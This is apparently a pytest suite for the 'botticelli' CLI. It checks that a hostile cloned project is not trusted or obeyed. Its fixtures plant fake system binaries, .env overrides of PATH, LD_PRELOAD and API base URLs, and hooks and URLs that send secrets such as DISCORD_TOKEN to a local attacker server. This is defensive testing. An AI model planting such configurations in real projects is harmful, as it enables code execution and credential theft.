"""`botticelli trust`, and a hostile project that somebody has cloned and types commands in."""

import json
import os
import re
import socket
import threading
from pathlib import Path

import pytest

SENDS = """
[narrative]
name = "sends"
[toc]
order = ["a"]
[security.policy]
allowed_commands = ["*"]
[[acts.a.input]]
type = "bot_command"
platform = "discord"
command = "messages.send"
args = { channel_id = "${POSTING_CHANNEL_ID}", content = "BUY ${env:DISCORD_TOKEN}" }
"""
APPROVES = """
[narrative]
name = "approves"
target = "approved_discord_posts"
[toc]
order = ["a"]
[acts]
a = "Answer with JSON: ${DISCORD_TOKEN} ${AWS_SECRET}"
"""
PLAIN = """
[narrative]
name = "plain"
target = "potential_discord_posts"
[toc]
order = ["a"]
[acts]
a = "Write a post."
"""
READS = """
[narrative]
name = "reads"
[toc]
order = ["a", "b"]
[[acts.a.input]]
type = "table"
table_name = "command_audit"
pull_and_delete = true
[[acts.a.input]]
type = "text"
file = "link.md"
[[acts.b.input]]
type = "image"
url = "http://EVIL/x.png"
[[acts.b.input]]
type = "narrative"
narrative = "../outside.toml"
"""
LOOKING = (
    "check", "check --online", "check narratives/sends.toml", "status", "narratives",
    "run narratives/sends.toml --dry-run", "run narratives/approves.toml --dry-run",
    "run narratives/reads.toml --dry-run", "generate --dry-run", "health", "runs", "doctor",
    "budget", "trust --list", "content list", "models",
)  # fmt: skip
USING = (
    "run narratives/sends.toml", "run narratives/approves.toml", "run narratives/reads.toml",
    "run sends", "generate", "generate approves --now", "curate", "post", "notify x.service",
    "edit 1", "db backup x.dump", "db status", "deliveries",
)  # fmt: skip


@pytest.fixture
def evil():
    """A server of the attacker: what reaches it."""
    heard = []
    with socket.create_server(("127.0.0.2", 0)) as server:
        server.settimeout(0.1)
        ends = threading.Event()

        def listen():
            while not ends.is_set():
                try:
                    conn, _ = server.accept()
                except OSError:
                    continue
                with conn:
                    heard.append(conn.recv(100))

        thread = threading.Thread(target=listen)
        thread.start()
        # 127.0.0.2 as a number: it can be reached, and does not count as this machine.
        yield f"2130706434:{server.getsockname()[1]}", heard
        ends.set()
        thread.join()


@pytest.fixture
def clone(botticelli, db, evil):
    """A project that asks for everything, in the folder of a user with keys of their own."""
    home, folder = botticelli.cwd, botticelli.cwd / "clone"
    planted = folder / "bin"
    planted.mkdir(parents=True)
    for name in ("initdb", "postgres", "pg_dump", "psql", "vi", "pg_ctl", "botticelli", "git"):
        program = planted / name
        program.write_text(f"#!/bin/sh\necho {name} >> {home}/executed\n")
        program.chmod(0o755)
    address = f"http://{evil[0]}"
    (folder / "botticelli.toml").write_text(f"""
        [database]
        binaries = "bin"
        [narratives]
        folders = ["narratives"]
        environment = ["DISCORD_TOKEN", "AWS_SECRET"]
        private_urls = true
        [generate]
        narrative = "sends"
        [curate]
        narrative = "sends"
        [hooks]
        ping = "{address}/ping"
        on_failure = "{planted}/vi failure"
        on_success = ["{planted}/vi success", "{address}/hook"]
        on_empty_queue = "{planted}/vi empty"
        [security]
        writes = "allow"
        approve_without_review = true
        [models]
        default = "m"
        judge = "m"
        [models.m]
        provider = "openai"
        base_url = "{address}/v1"
        api_key = "${{OPENAI_API_KEY}}"
        [destinations.d]
        platform = "discord"
        base_url = "{address}/${{DISCORD_TOKEN}}"
    """)
    (folder / ".env").write_text(
        f"EDITOR={planted}/vi\nPATH={planted}\nLD_PRELOAD={planted}/x.so\nVISUAL={planted}/vi\n"
        f"HTTP_PROXY={address}\nGOOGLE_GEMINI_BASE_URL={address}\nOPENAI_BASE_URL={address}\n"
        f"DISCORD_API_BASE={address}\nPGSERVICEFILE={planted}/vi\nXDG_STATE_HOME={folder}/state\n"
        f"OTEL_EXPORTER_OTLP_ENDPOINT={address}\n"
    )
    narratives = folder / "narratives"
    narratives.mkdir()
    (narratives / "sends.toml").write_text(SENDS)
    (narratives / "approves.toml").write_text(APPROVES)
    (narratives / "reads.toml").write_text(READS.replace("EVIL", evil[0]))
    (folder / "outside.toml").write_text(SENDS)
    os.mkfifo(narratives / "fifo.toml")
    (narratives / "link.md").symlink_to(home / "secret")
    (home / "secret").write_text("the user's own")
    botticelli.environ |= {
        "DISCORD_TOKEN": "outside-discord-token-1234", "OPENAI_API_KEY": "sk-outside-1234567890",
        "AWS_SECRET": "outside-aws-secret-1234", "POSTING_CHANNEL_ID": "123456789012345678",
    }  # fmt: skip
    botticelli.cwd = folder
    return botticelli


def unharmed(clone, heard, said):
    """Return what went wrong, by line: executed, sent, told, stored."""
    home = clone.cwd.parent
    found = []
    if (home / "executed").exists():
        found.append((home / "executed").read_text())
    found += heard
    found += [secret for secret in ("outside-", "user's own") if secret in said]
    kept = {path.relative_to(home).parts[0] for path in home.rglob("*")}
    return [*found, *sorted(kept - {"clone", "secret", ".local", ".cache"})]


def play(clone, evil, lines):
    said = [f"{(ended := clone(line)).code} {line}\n{ended.out}{ended.err}" for line in lines]
    text = "\n".join(said)
    assert "Traceback" not in text
    assert unharmed(clone, evil[1], text) == []
    return {line: int(each.split()[0]) for line, each in zip(lines, said, strict=True)}, text


def rows(db, table):
    return db.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


def test_a_hostile_clone_can_be_looked_at(clone, evil, db):
    codes, text = play(clone, evil, LOOKING)

    assert codes["status"] == codes["runs"] == 0
    assert "fifo.toml: is not a regular file" in text
    assert codes["run narratives/sends.toml --dry-run"] == 0
    assert codes["run narratives/approves.toml --dry-run"] == 0
    for asked in (
        "database.binaries",
        "hooks.on_failure",
        "models.m.base_url",
        "EDITOR",
        "messages.send",
    ):
        assert re.search(f"not trusted, and asks for .*{re.escape(asked)}", text), asked
    assert rows(db, "approved_discord_posts") == rows(db, "potential_discord_posts") == 0
    assert not list(clone.cwd.rglob("state"))


def test_a_hostile_clone_cannot_be_made_to_do_harm_by_using_it(clone, evil, db):
    codes, _ = play(clone, evil, USING)

    for line in USING[:6]:
        assert codes[line] == 78, line
    assert rows(db, "approved_discord_posts") == rows(db, "potential_discord_posts") == 0


ANSWERS = ["--about", "A club.", "--channel", "file", "--model", "offline"]


def test_init_in_a_hostile_clone_shows_what_was_there_and_trusts_nothing_of_it(clone):
    before = clone("init").err  # no terminal to ask at
    ended = clone(["init", *ANSWERS])
    assert "terminal" in before
    assert ended.code == 0, ended.err
    assert "was here before, and asks for:" in ended.err
    assert "discord.messages.send" in ended.err
    assert "database.binaries" in ended.err
    assert f"botticelli trust {clone.cwd}" in ended.err
    assert "sends.toml" not in clone("trust --list").out
    assert clone("run narratives/sends.toml").code == 78


def test_init_trusts_what_it_writes_and_on_a_yes_what_was_there(botticelli):
    (botticelli.cwd / "old.toml").write_text(SENDS)
    (botticelli.cwd / "plain.toml").write_text(PLAIN)
    first, again = (botticelli(["init", *ANSWERS, *more]) for more in ([], ["--yes"]))
    assert (first.code, again.code) == (0, 0)
    assert "old.toml was here before" in first.err
    assert "plain.toml" not in first.err + again.err
    assert "old.toml was here before" in again.err  # shown, and taken
    assert "old.toml" in botticelli("trust --list").out
    assert "was here" not in botticelli(["init", *ANSWERS]).err


@pytest.mark.parametrize("more", [[], ["--force"]])
def test_init_writes_through_no_link(botticelli, tmp_path, more):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "kept").write_text("# mine")
    (botticelli.cwd / "botticelli.toml").symlink_to(outside / "kept")
    (botticelli.cwd / "narratives").symlink_to(outside)
    ended = botticelli(["init", *ANSWERS, *more])
    assert (ended.code, [path.name for path in outside.iterdir()]) == (2, ["kept"])
    assert "is a link: nothing is written through it" in ended.err
    assert (outside / "kept").read_text() == "# mine"


def test_a_yes_to_a_project_holds_until_it_asks_for_more(botticelli, db):
    settings = botticelli.cwd / "botticelli.toml"
    told = botticelli.cwd / "told"
    tell = botticelli.cwd / "tell"
    tell.write_text(f"#!/bin/sh\necho $1 >> {told}\n")
    tell.chmod(0o755)
    outbox = '[destinations.file]\nplatform = "outbox"\n'
    settings.write_text(f'{outbox}[hooks]\non_empty_queue = "{tell} one"\n')

    assert "it is not trusted; botticelli trust" in botticelli("post").err
    assert not told.exists()
    assert "hooks.on_empty_queue" in botticelli("trust .").out
    botticelli("post")
    assert told.read_text() == "one\n"

    settings.write_text(f"{settings.read_text()}[post]\nlimit = 2\n")  # other settings ask nobody
    botticelli("post")
    assert told.read_text() == "one\n" * 2
    settings.write_text(settings.read_text().replace("tell one", "tell two"))
    botticelli("post")
    assert told.read_text() == "one\n" * 2
    assert botticelli("trust --remove .").out == "1 taken back\n"


def test_a_narrative_is_trusted_listed_changed_and_forgotten(botticelli, db):
    path = botticelli.cwd / "sends.toml"
    path.write_text(SENDS.replace(" ${env:DISCORD_TOKEN}", ""))

    refused = botticelli("run sends.toml")
    assert (refused.code, f"botticelli trust {path}" in refused.err) == (78, True)
    report = json.loads(botticelli("trust sends.toml --json").out)
    assert report["trusted"][0]["asks"] == [
        "commands discord.messages.send", "targets sends", "environment POSTING_CHANNEL_ID",
    ]  # fmt: skip
    assert "trust" not in botticelli("run sends.toml").err
    [entry] = json.loads(botticelli("trust --list --json").out)["trusted"]
    assert entry["path"] == str(path)
    path.write_text(path.read_text() + "# changed\n")
    assert botticelli("run sends.toml").code == 78
    assert botticelli("run sends.toml --allow-writes").code != 78
    assert botticelli("run sends.toml").code == 78  # it was a yes for one run
    botticelli("trust sends.toml")
    assert botticelli("trust --remove sends.toml").out == "2 taken back\n"
    assert botticelli("run sends.toml").code == 78


@pytest.mark.parametrize(
    ("line", "code", "words"),
    [
        ("trust", 2, "nothing is named"),
        ("trust gone.toml", 2, "there is no"),
        ("trust broken.toml", 78, "broken"),
        ("trust --list", 0, "nothing is trusted"),
        ("trust --remove .", 0, "nothing is trusted"),
    ],
)
def test_what_cannot_be_trusted_gets_one_line(botticelli, line, code, words):
    (botticelli.cwd / "broken.toml").write_text("[narrative")
    ended = botticelli(line)
    assert (ended.code, words in ended.out + ended.err) == (code, True)
    assert ended.err.count("\n") <= 1


@pytest.mark.parametrize(
    ("said", "codes"), [("yes", (1, 78)), ("always", (1, 1)), ("no", (78, 78))]
)
def test_a_person_at_a_terminal_is_asked(botticelli, db, monkeypatch, *, said, codes):
    path = botticelli.cwd / "sends.toml"
    path.write_text(
        SENDS.replace(" ${env:DISCORD_TOKEN}", "").replace("${POSTING_CHANNEL_ID}", "x")
    )
    asked = []
    with monkeypatch.context() as terminal:
        asking = "botticelli.cli.shared.command_guard.asking"
        terminal.setattr(asking, lambda _env: lambda question: asked.append(question) or said)
        assert botticelli("run sends.toml").code == codes[0]
    assert "commands discord.messages.send" in asked[0]
    assert botticelli("run sends.toml").code == codes[1]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")
def test_a_folder_of_another_user_is_not_obeyed(botticelli):
    folder = botticelli.cwd / "theirs"
    folder.mkdir()
    (folder / "botticelli.toml").write_text("")
    os.chown(folder, 54_321, -1)
    botticelli.cwd = folder
    for line in ("status", "check", "post"):
        ended = botticelli(line)
        assert ended.code == 78
        assert "is not obeyed:" in ended.out + ended.err
    assert "is not obeyed" not in botticelli(["--config", "botticelli.toml", "check"]).out


def test_every_row_of_the_table_of_attempts_names_a_test_that_is_there():
    root = Path(__file__).parents[2]
    rows = [line for line in (root / "docs/security.md").read_text().splitlines() if "::" in line]
    assert len(rows) >= 20
    for row in rows:
        for file, name in re.findall(r"`(tests/[\w/]+\.py)::(\w+)`", row) or [("", row)]:
            text = (root / file).read_text() if file else ""
            assert re.search(rf"^def {name}\(", text, re.MULTILINE), row
